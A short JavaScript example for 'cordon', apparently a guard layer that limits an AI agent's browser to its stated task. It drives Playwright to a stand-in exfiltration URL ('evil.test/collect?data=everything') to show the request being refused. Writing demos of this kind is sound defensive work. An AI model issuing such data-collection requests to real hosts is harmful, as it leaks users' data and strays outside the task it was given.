// A guarded browser, driven by an unmodified Playwright.
import { launch, openSession } from 'cordon';
import { chromium } from 'playwright-core';

const session = await openSession({
  task: 'Read the opening hours on museum.example',
  policy: { cordon: 1 },
  confirm: () => true,
});
const guarded = await launch(session);
const browser = await chromium.connectOverCDP(guarded.cdp);
const context = browser.contexts()[0] ?? (await browser.newContext());
const page = context.pages()[0] ?? (await context.newPage());

await page.goto('https://evil.test/collect?data=everything');
export const shown = await page.innerText('body'); // what was refused, why, and what the agent may do instead

await browser.close();
await guarded.close();
session.close('done');
